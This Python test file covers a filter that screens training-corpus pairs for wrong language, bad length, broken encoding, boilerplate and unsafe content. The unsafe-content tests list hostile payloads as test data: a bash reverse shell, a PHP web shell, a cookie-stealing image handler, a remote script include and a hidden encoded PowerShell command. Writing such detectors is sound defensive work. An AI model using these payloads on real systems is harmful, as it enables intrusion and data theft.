"""Each look of the general filter at pairs made to fail it, and at pairs that only resemble them."""

from collections.abc import Callable

import pytest

from mgte_rag.errors import InvalidOptionError
from mgte_training.corpus import CorpusOptions, Pair
from mgte_training.corpus.quality import boilerplate, broken, wrong_language, wrong_length
from mgte_training.corpus.unsafe import Blocked, unsafe

Make = Callable[..., Pair]


def test_languages(pair: Make) -> None:
    assert wrong_language(pair(language="de"), ("en", "zh")) == "language de"
    assert wrong_language(pair(language="en-de"), ("en",)) == "language de"
    assert wrong_language(pair(language="en-zh"), ("en", "zh")) == ""
    assert wrong_language(pair(language="de"), None) == ""


def test_lengths(pair: Make) -> None:
    def detail(**changes: str) -> str:
        return wrong_length(pair(**changes), (2, 4), (3, 5))

    assert detail(query="one", positive="a b c") == "query of 1 words, fewest 2"
    assert detail(query="a b c d e", positive="a b c") == "query of 5 words, most 4"
    assert detail(query="a b", positive="a b") == "positive of 2 words, fewest 3"
    assert detail(query="a b", positive="a b c d e f") == "positive of 6 words, most 5"
    assert detail(query="a b", positive="猫は眠っている") == ""
    assert detail(query="a b", positive="猫は") == "positive of 1 words, fewest 3"
    assert detail(query="a b", positive="c d", task="translation") == ""


BROKEN = {
    "lost": "The caf\ufffd is open, and the na\ufffdve guest is there.",
    "control": "The door\x00 is open\x01, and the guest is there.",
    "utf-8 read as cp1252": "The cafÃ© is open â€“ and the naÃ¯ve guest is there.",
    "utf-8 read as latin-1": "猫は眠る".encode().decode("latin-1") + " and so on",
    "Cyrillic read as cp1252": "Привет, мир".encode().decode("cp1252", "replace"),
}
WHOLE = [
    "The café is open – and the naïve guest is there: “so”, £5, 20 °C.",
    "Ångström, Ørsted, São Paulo, ÄÖÜ, Â and Ã are letters.",
    "猫は眠る。 Привет, мир! العربية हिन्दी ภาษาไทย",
    "U+FFFD, \ufffd, stands for what was lost. " + "Plain text is here. " * 10,
    "U+FFFD, \ufffd, stands for what was lost. " * 3 + "Plain text is here. " * 200,
    "form\ffeed and tab\t",
]


@pytest.mark.parametrize("text", BROKEN.values(), ids=BROKEN)
def test_broken_characters_are_seen_in_query_and_positive(pair: Make, text: str) -> None:
    assert broken(pair(positive=text)).startswith("positive")
    assert broken(pair(query=text)).startswith("query")


@pytest.mark.parametrize("text", WHOLE)
def test_accents_scripts_and_rare_replacement_characters_are_not_broken(pair: Make, text: str) -> None:
    assert broken(pair(positive=text)) == ""


BOILERPLATE = {
    "positive is the query": "how CATS sleep.",
    "a notice": "We use cookies to improve your experience on this site, please accept.",
    "mostly links": "See https://example.com/a-long-address and https://example.com/another-address too.",
    "few letters": "| 1 | 2 | 3 |\n|---|---|---|\n| 4.25 | 5.50 | 6.75 |\n| 0.1 | 0.2 | 0.3 |",
    "lines that end in an ellipsis": "Cats sleep...\nDogs run…\nBirds fly ...\nand fish swim",
    "repeated lines": "Share this page\nCats sleep\nShare this page\nDogs run\nShare this page\nBirds fly",
    "a list of bare entries": "- Home\n- About us\n- Our products\n- Contact\n- Imprint\n- Help",
}
PROSE = [
    "Cats sleep for most of the day, and hunt at dawn.",
    "- Cats sleep for most of the day and the night.\n- Dogs run for as long as they can.\n- Birds fly south.\n- So?",
    "All rights reserved was a phrase of the Buenos Aires Convention of 1910, which asked of authors that they say so "
    "in their works; " + "today no country needs it any more, since the Berne Convention protects without it. " * 6,
    "Define it so:\n\n```python\nfor i in range(10):\n    print(i)\n    total += i\n```\n\nand then run the file.",
    "Every call is the same:\n\n```\nget()\nget()\nget()\nget()\n```\n\nand ends.\n\n    get()\n    get()\n    get()\n",
    "表达式是一个或多个值、操作符或函数的组合。在 TiDB 中，表达式主要使用在 SELECT 语句的各个子句中。",
    "| name | what it does |\n|------|--------------|\n| open | opens the file |\n| close | closes it again |",
]


@pytest.mark.parametrize(("detail", "text"), BOILERPLATE.items(), ids=BOILERPLATE)
def test_boilerplate_is_recognised(pair: Make, detail: str, text: str) -> None:
    assert boilerplate(pair(positive=text)).startswith(detail)


@pytest.mark.parametrize("text", PROSE)
def test_prose_lists_code_and_tables_are_no_boilerplate(pair: Make, text: str) -> None:
    assert boilerplate(pair(positive=text)) == ""


@pytest.mark.parametrize("query", ["References", "Cats: See also", "缓存: 另请参阅", "PEP 8: Copyright"])
def test_sections_of_references_and_notices_are_left_out_by_their_heading(pair: Make, query: str) -> None:
    assert boilerplate(pair(query=query)) == "section of references, notices or links"
    assert boilerplate(pair(query=query, task="pair")) == ""


UNSAFE = {
    "hidden script": "eval(atob('YWxlcnQoMSk='))",
    "script in an address": '<a href="javascript:alert(1)">x</a>',
    "script from elsewhere": "<script src='//10.20.30.40/x.js'></script>",
    "stolen cookies": "<img src=x onerror=\"fetch('//x/'+document.cookie)\">",
    "invisible frame": '<iframe src="//x" width="0" height="0"></iframe>',
    "encoded command": "powershell -nop -w hidden -enc " + "QUJD" * 20,
    "remote shell": "bash -i >& /dev/tcp/10.0.0.1/8080 0>&1",
    "web shell": "<?php system($_GET['c']); ?>",
    "link to bad.example": "see http://www.bad.example:80/page",
    "the word 'Casino  bonus'": "get a Casino  bonus now",
    "the word '赌场'": "最好的赌场在这里",
}
SAFE = [
    "document.cookie is a string; reading it in a <script> gives all cookies of the page at once.",
    "curl --proto '=https' https://tiup.example/install.sh | sh",
    "Python's eval() evaluates an expression; atob decodes base64.",
    '<iframe src="https://video.example" width="560" height="315"></iframe>',
    "see https://notbad.example/ and https://bad.example.org/",
    "the casinos pay a bonus",
]
BLOCKED = Blocked(["Bad.example"], ["casino bonus", "赌场"])


@pytest.mark.parametrize(("detail", "text"), UNSAFE.items(), ids=UNSAFE)
def test_payloads_blocked_sites_and_blocked_words_are_seen(pair: Make, detail: str, text: str) -> None:
    assert unsafe(pair(positive=f"some text and {text} and more"), BLOCKED) == detail
    assert unsafe(pair(query=text), BLOCKED) == detail


@pytest.mark.parametrize("text", SAFE)
def test_writing_about_scripts_and_sites_is_safe(pair: Make, text: str) -> None:
    assert unsafe(pair(positive=text), BLOCKED) == ""


@pytest.mark.parametrize(
    ("options", "message"),
    [
        ({"tasks": ("titles",)}, "tasks='titles': allowed are title-body"),
        ({"query_words": (5, 2)}, "query_words"),
        ({"near_duplicates": 1.5}, "near_duplicates=1.5"),
        ({"min_score": 2.0}, "min_score=2.0"),
        ({"shard_rows": 0}, "shard_rows=0"),
        ({"seed": -1}, "seed=-1"),
    ],
)
def test_options_out_of_range_are_refused(options: dict[str, object], message: str) -> None:
    with pytest.raises(InvalidOptionError, match=message):
        CorpusOptions(**options)  # type: ignore[arg-type]
